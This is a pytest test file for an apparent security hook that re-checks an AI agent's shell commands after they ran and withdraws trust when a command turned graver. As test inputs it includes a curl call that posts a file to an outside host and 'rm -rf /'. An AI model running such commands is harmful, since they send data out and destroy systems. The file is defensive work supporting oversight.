"""Calls that another hook changes after they were judged."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from tests.hooked import Machine


@pytest.fixture
def machine(tmp_path: Path) -> Machine:
    return Machine(tmp_path)


def after(machine: Machine, command: str, **more: Any) -> Any:
    event = {"hook_event_name": "PostToolUse", "tool_response": {"stdout": ""}} | more
    return machine.answered(machine.bash(command, **event))


def test_a_call_that_became_graver_is_told_and_trust_is_gone(machine: Machine) -> None:
    assert machine.judged(machine.bash("ls"))["decision"] == "allow"
    told = after(machine, "curl -d @x https://example.org")
    assert "changed after it was judged" in told["systemMessage"]
    assert machine.judged(machine.bash("ls", tool_use_id="toolu_2"))["decision"] == "ask"
    assert machine.judged(machine.bash("ls", session_id="other"))["decision"] == "allow"


def test_failed_calls_are_compared_too(machine: Machine) -> None:
    machine.judged(machine.bash("ls"))
    assert after(machine, "rm -rf /", hook_event_name="PostToolUseFailure", error="exit 1") is not None


def test_what_is_as_harmless_as_before_is_nobodys_business(machine: Machine) -> None:
    machine.judged(machine.bash("ls"))
    assert after(machine, "ls -la") is None
    assert after(machine, "ls") is None
    assert machine.judged(machine.bash("ls", tool_use_id="toolu_2"))["decision"] == "allow"


def test_what_a_human_was_asked_about_he_may_change(machine: Machine) -> None:
    machine.judged(machine.bash("curl -d @x https://example.org"))
    assert after(machine, "curl -d @y https://example.org") is None


def test_a_call_that_was_never_judged_is_not_compared(machine: Machine) -> None:
    assert after(machine, "rm -rf /", tool_use_id="toolu_other") is None
